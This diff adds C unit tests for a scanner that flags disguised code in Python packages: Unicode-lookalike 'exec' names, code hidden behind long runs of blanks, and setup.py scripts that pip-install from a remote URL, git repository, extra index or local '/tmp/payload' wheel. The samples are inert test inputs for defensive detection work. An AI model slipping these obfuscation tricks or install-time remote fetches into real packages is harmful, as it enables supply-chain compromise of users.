@@ -1,0 +1,296 @@
+/* SPDX-License-Identifier: MIT */
+/* obf.unicode-identifiers, obf.whitespace-hiding, install.pip-invocation.
+ * Hosts are inert (203.0.113.0/24, .invalid). */
+#include <stdio.h>
+
+#include "rules_tests.h"
+
+#define SETUP "demo-1.0/setup.py"
+#define MOD "demo-1.0/demo/core.py"
+#define RUNTIME_MOD "demo-1.0/demo/cli.py"
+
+/* U+FF45 U+FF58 U+FF45 U+FF43: fullwidth "exec". */
+#define FW_EXEC "\xef\xbd\x85\xef\xbd\x98\xef\xbd\x85\xef\xbd\x83"
+/* Mathematical bold "exec". */
+#define MB_EXEC "\xf0\x9d\x90\x9e\xf0\x9d\x90\xb1\xf0\x9d\x90\x9e\xf0\x9d\x90\x9c"
+/* "exec" with Cyrillic U+0435 for both e. */
+#define CY_EXEC "\xd0\xb5x\xd0\xb5" "c"
+
+static const struct lg_finding *one(struct lg_findings *f, const char *path,
+				    const char *text, const char *rule,
+				    enum lg_severity sev, const char *needle)
+{
+	const struct lg_finding *x;
+
+	t_scan(f, path, text);
+	x = t_one(f, rule);
+	assert_int_equal(x->severity, sev);
+	if (needle && !strstr(x->message, needle))
+		fail_msg("'%s' not in '%s'", needle, x->message);
+	return x;
+}
+
+static void none_of(const char *path, const char *text, const char *rule)
+{
+	struct lg_findings f = LG_FINDINGS_INIT;
+
+	t_scan(&f, path, text);
+	if (t_count(&f, rule))
+		fail_msg("unexpected %s: %s", rule, t_one(&f, rule)->message);
+	lg_findings_dispose(&f);
+}
+
+/* ---- obf.unicode-identifiers ------------------------------------------- */
+
+static void test_rules_unicode__nfkc_dangerous(void **state)
+{
+	struct lg_findings f = LG_FINDINGS_INIT;
+
+	(void)state;
+	one(&f, MOD, "import base64\n" FW_EXEC "(base64.b64decode(s))\n",
+	    LG_RULE_UNICODE_IDENTIFIERS, LG_SEV_HIGH, "'exec'");
+	/* The rules see the name Python binds: exec of decoded data. */
+	assert_int_equal(t_count(&f, LG_RULE_DECODE_EXEC), 1);
+	lg_findings_dispose(&f);
+	/* Critical in setup.py, math bold letters too. */
+	one(&f, SETUP, MB_EXEC "('x = 1')\n", LG_RULE_UNICODE_IDENTIFIERS,
+	    LG_SEV_CRITICAL, "exec");
+	lg_findings_dispose(&f);
+	/* The name of an imported module, disguised. */
+	one(&f, MOD, "import json\n\xef\xbd\x8a\xef\xbd\x93on.dumps(1)\n",
+	    LG_RULE_UNICODE_IDENTIFIERS, LG_SEV_HIGH, "'json'");
+	lg_findings_dispose(&f);
+}
+
+static void test_rules_unicode__nfkc_other_is_medium(void **state)
+{
+	struct lg_findings f = LG_FINDINGS_INIT;
+
+	(void)state;
+	/* U+FB01 ligature: `ﬁle_count` is `file_count`. */
+	one(&f, MOD, "\xef\xac\x81le_count = 1\nprint(\xef\xac\x81le_count)\n",
+	    LG_RULE_UNICODE_IDENTIFIERS, LG_SEV_MEDIUM, "and 1 more");
+	lg_findings_dispose(&f);
+}
+
+static void test_rules_unicode__lookalikes(void **state)
+{
+	struct lg_findings f = LG_FINDINGS_INIT;
+
+	(void)state;
+	one(&f, MOD, "import os\n" CY_EXEC "('1')\n", LG_RULE_UNICODE_IDENTIFIERS,
+	    LG_SEV_HIGH, "'exec'");
+	lg_findings_dispose(&f);
+	/* Cyrillic o in an ordinary word: medium. */
+	one(&f, MOD, "c\xd0\xbeunter = 1\n", LG_RULE_UNICODE_IDENTIFIERS,
+	    LG_SEV_MEDIUM, "counter");
+	lg_findings_dispose(&f);
+}
+
+static void test_rules_unicode__controls(void **state)
+{
+	struct lg_findings f = LG_FINDINGS_INIT;
+
+	(void)state;
+	/* U+200B inside a name. */
+	one(&f, MOD, "ev\xe2\x80\x8b" "al = 1\n", LG_RULE_UNICODE_IDENTIFIERS,
+	    LG_SEV_MEDIUM, "zero-width");
+	lg_findings_dispose(&f);
+	/* Trojan Source: an RLO left open in a comment; medium even in
+	 * setup.py. */
+	one(&f, SETUP, "x = 1  # \xe2\x80\xae } if admin:\n",
+	    LG_RULE_UNICODE_IDENTIFIERS, LG_SEV_MEDIUM, "Trojan Source");
+	lg_findings_dispose(&f);
+}
+
+static void test_rules_unicode__i18n_near_misses(void **state)
+{
+	(void)state;
+	/* Greek math names, Chinese and Russian identifiers, non-ASCII in
+	 * strings, comments and docstrings, a closed bidi pair in a string,
+	 * and the micro sign (NFKC gives Greek mu, not ASCII). */
+	none_of(MOD,
+		"\"\"\"Docstring: " FW_EXEC " \xce\xbb.\"\"\"\n"
+		"\xce\xbb = 0.5\n"
+		"\xce\x94t = 0.1\n"
+		"\xcf\x83_x = \xce\xbb * \xce\x94t\n"
+		"\xe5\x90\x8d\xe5\xad\x97 = '" FW_EXEC "'\n"
+		"\xd0\xb8\xd0\xbc\xd1\x8f = '\xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82'\n"
+		"get\xd0\x98\xd0\xbc\xd1\x8f = 1\n"
+		"msg = '\xe2\x80\xab\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d\xe2\x80\xac'\n"
+		"# " CY_EXEC " in a comment\n"
+		"\xc2\xb5 = 1e-6\n",
+		LG_RULE_UNICODE_IDENTIFIERS);
+}
+
+/* ---- obf.whitespace-hiding --------------------------------------------- */
+
+static char *padded(const char *before, size_t blanks, const char *after)
+{
+	static char buf[1024];
+	size_t n = strlen(before);
+
+	assert_true(n + blanks + strlen(after) < sizeof(buf));
+	memcpy(buf, before, n);
+	memset(buf + n, ' ', blanks);
+	memcpy(buf + n + blanks, after, strlen(after) + 1);
+	return buf;
+}
+
+static void test_rules_whitespace__hit(void **state)
+{
+	struct lg_findings f = LG_FINDINGS_INIT;
+
+	(void)state;
+	one(&f, MOD, padded("x = 1;", 160, "import os; os.getcwd()\n"),
+	    LG_RULE_WHITESPACE_HIDING, LG_SEV_MEDIUM, "column 167");
+	lg_findings_dispose(&f);
+	/* setup.py: high. */
+	one(&f, SETUP, padded("VERSION = '1.0'", 150, ";import os\n"),
+	    LG_RULE_WHITESPACE_HIDING, LG_SEV_HIGH, "150 blanks");
+	lg_findings_dispose(&f);
+}
+
+static void test_rules_whitespace__near_misses(void **state)
+{
+	(void)state;
+	/* Aligned tables inside strings and docstrings. */
+	none_of(MOD, padded("T = '''\nname", 200, "value value value\n'''\n"),
+		LG_RULE_WHITESPACE_HIDING);
+	none_of(MOD, padded("x = 1  #", 200, "comment comment comment\n"),
+		LG_RULE_WHITESPACE_HIDING);
+	/* 149 blanks, or too little code after them. */
+	none_of(MOD, padded("x = 1;", 149, "import os; os.getcwd()\n"),
+		LG_RULE_WHITESPACE_HIDING);
+	none_of(MOD, padded("x = 1", 200, "# note\n"),
+		LG_RULE_WHITESPACE_HIDING);
+	none_of(MOD, padded("x = (1,", 200, "2)\n"),
+		LG_RULE_WHITESPACE_HIDING);
+	/* Arguments aligned far right on a continuation line. */
+	none_of(MOD, padded("x = call(first,\n", 170,
+			    "second_argument_name)\n"),
+		LG_RULE_WHITESPACE_HIDING);
+}
+
+/* ---- install.pip-invocation -------------------------------------------- */
+
+static void test_rules_pip__bootstrap_is_medium(void **state)
+{
+	static const char *const shapes[] = {
+		"import subprocess, sys\n"
+		"subprocess.check_call([sys.executable, '-m', 'pip', "
+		"'install', 'numpy'])\n",
+		"import os\nos.system('pip install cython')\n",
+		"import pip\npip.main(['install', '--user', 'numpy>=1.20'])\n",
+		"from pip._internal import main\nmain(['install', 'cython'])\n",
+		"import subprocess, sys\n"
+		"subprocess.run(f'{sys.executable} -m pip install -q numpy', "
+		"shell=True)\n",
+	};
+	struct lg_findings f = LG_FINDINGS_INIT;
+
+	(void)state;
+	for (size_t i = 0; i < LG_ARRAY_SIZE(shapes); i++) {
+		one(&f, SETUP, shapes[i], LG_RULE_PIP_INVOCATION, LG_SEV_MEDIUM,
+		    "pip install");
+		/* Not blocked by install.toplevel-process either (the
+		 * f-string is a command it cannot name: medium). */
+		assert_true(lg_findings_max_severity(&f, 0) <= (int)LG_SEV_MEDIUM);
+		if (i + 1 < LG_ARRAY_SIZE(shapes))
+			assert_int_equal(f.n, 1);
+		lg_findings_dispose(&f);
+	}
+}
+
+static void test_rules_pip__risky_targets_are_high(void **state)
+{
+	static const struct {
+		const char *text, *needle;
+	} shapes[] = {
+		{"import subprocess, sys\nsubprocess.check_call([sys.executable, "
+		 "'-m', 'pip', 'install', 'git+https://203.0.113.7/x.git'])\n",
+		 "VCS"},
+		{"import pip\nURL = 'https://203.0.113.7/pkgs/x-1.0.tar.gz'\n"
+		 "pip.main(['install', URL])\n",
+		 "a URL"},
+		{"import subprocess\nsubprocess.call(['pip3', 'install', "
+		 "'--extra-index-url', 'https://pkgs.example.invalid/simple', "
+		 "'requests'])\n",
+		 "other than PyPI"},
+		{"import os\nos.system('pip install /tmp/payload-1.0-py3-none-any.whl')\n",
+		 "local archive"},
+		{"import runpy, sys\nsys.argv = ['pip', 'install', 'x']\n"
+		 "runpy.run_module('pip', run_name='__main__')\n",
+		 NULL},
+	};
+	struct lg_findings f = LG_FINDINGS_INIT;
+
+	(void)state;
+	for (size_t i = 0; i < LG_ARRAY_SIZE(shapes); i++) {
+		one(&f, SETUP, shapes[i].text, LG_RULE_PIP_INVOCATION,
+		    shapes[i].needle ? LG_SEV_HIGH : LG_SEV_MEDIUM,
+		    shapes[i].needle);
+		lg_findings_dispose(&f);
+	}
+	/* At import of a package module: still high. */
+	one(&f, MOD, shapes[0].text, LG_RULE_PIP_INVOCATION, LG_SEV_HIGH,
+	    "VCS");
+	lg_findings_dispose(&f);
+}
+
+static void test_rules_pip__near_misses(void **state)
+{
+	struct lg_findings f = LG_FINDINGS_INIT;
+
+	(void)state;
+	/* Other pip sub-commands, pip named in strings, other programs. */
+	none_of(SETUP,
+		"import subprocess, sys\n"
+		"subprocess.check_call([sys.executable, '-m', 'pip', '--version'])\n"
+		"print('run pip install demo to install')\n"
+		"subprocess.check_call(['pipenv', 'install'])\n",
+		LG_RULE_PIP_INVOCATION);
+	/* pip's own __main__ and runner hand sys.argv on. */
+	none_of("pip-23.0/src/pip/__main__.py",
+		"import sys\nfrom pip._internal.cli.main import main as _main\n"
+		"sys.exit(_main())\n",
+		LG_RULE_PIP_INVOCATION);
+	none_of("pip-23.0/src/pip/__pip-runner__.py",
+		"import runpy\nrunpy.run_module('pip', run_name='__main__', "
+		"alter_sys=True)\n",
+		LG_RULE_PIP_INVOCATION);
+	/* --target takes a directory, which is not a local package; the
+	 * PyPI index is not another host. */
+	one(&f, SETUP,
+	    "import subprocess, sys\nsubprocess.check_call([sys.executable, "
+	    "'-m', 'pip', 'install', '--target', './vendor', '-i', "
+	    "'https://pypi.org/simple', 'six'])\n",
+	    LG_RULE_PIP_INVOCATION, LG_SEV_MEDIUM, "'six'");
+	lg_findings_dispose(&f);
+	/* A plugin installer nothing runs at import: low. */
+	one(&f, RUNTIME_MOD,
+	    "import subprocess, sys\n"
+	    "def add_plugin(name):\n"
+	    "    subprocess.check_call([sys.executable, '-m', 'pip', "
+	    "'install', name])\n",
+	    LG_RULE_PIP_INVOCATION, LG_SEV_LOW, NULL);
+	lg_findings_dispose(&f);
+}
+
+int test_rules_obf_group(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_rules_unicode__nfkc_dangerous),
+		cmocka_unit_test(test_rules_unicode__nfkc_other_is_medium),
+		cmocka_unit_test(test_rules_unicode__lookalikes),
+		cmocka_unit_test(test_rules_unicode__controls),
+		cmocka_unit_test(test_rules_unicode__i18n_near_misses),
+		cmocka_unit_test(test_rules_whitespace__hit),
+		cmocka_unit_test(test_rules_whitespace__near_misses),
+		cmocka_unit_test(test_rules_pip__bootstrap_is_medium),
+		cmocka_unit_test(test_rules_pip__risky_targets_are_high),
+		cmocka_unit_test(test_rules_pip__near_misses),
+	};
+
+	return cmocka_run_group_tests_name("rules_obf", tests, NULL, NULL);
+}
